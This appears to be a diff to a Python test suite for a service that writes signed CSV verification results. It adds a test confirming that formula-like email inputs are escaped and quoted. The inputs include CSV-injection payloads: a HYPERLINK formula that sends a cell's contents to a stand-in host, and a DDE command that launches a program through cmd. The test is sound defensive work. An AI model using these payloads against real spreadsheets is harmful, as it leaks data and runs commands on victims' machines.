@@ -486,7 +486,8 @@ def test_a_completed_job_has_one_signed_file_whose_proof_checks_and_a_tampered_o
     }
     claimed = ProofVerifyRequest(fingerprint=file.fingerprint, signature=file.signature)
     assert verifier.verify(claimed) == good
-    tampered = body.decode().replace("p2@d42.test,invalid", "p2@d42.test,valid", 1)
+    tampered = body.decode().replace('"p2@d42.test","invalid"', '"p2@d42.test","valid"', 1)
+    assert tampered != body.decode()
     mismatch = verifier.verify(
         ProofVerifyRequest(file=tampered, fingerprint=file.fingerprint, signature=file.signature)
     )
@@ -510,6 +511,16 @@ def test_a_completed_job_has_one_signed_file_whose_proof_checks_and_a_tampered_o
     assert (bad.verified, bad.fingerprint, bad.signature) == (False, FingerprintCheck.MATCHES, SignatureCheck.INVALID)
     garbage = verifier.verify(ProofVerifyRequest(fingerprint=file.fingerprint, signature="not base64!"))
     assert (garbage.verified, garbage.signature) == (False, SignatureCheck.INVALID)
+
+
+def test_a_result_file_cell_a_spreadsheet_would_evaluate_is_written_as_text(stack: InProcessStack) -> None:
+    h = Harness(stack)
+    formulas = ['=HYPERLINK("https://x.test/?"&A1)', "@SUM(1,2)", "-1+2", "+cmd|' /C calc'!A0"]
+    job_id = run_all(h, BulkCreate(emails=formulas))
+    body = h.s3.get_object(Bucket=h.bucket, Key=f"verifications/{h.account.id}/{job_id}.csv")["Body"].read()
+    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
+    assert [row[:2] for row in rows[1:]] == [["'" + formula, "invalid"] for formula in formulas]
+    assert all(line.startswith('"') for line in body.decode().splitlines())  # every cell quoted
 
 
 def test_packaging_cut_short_is_done_again_by_the_redelivery_and_deleting_removes_the_file(
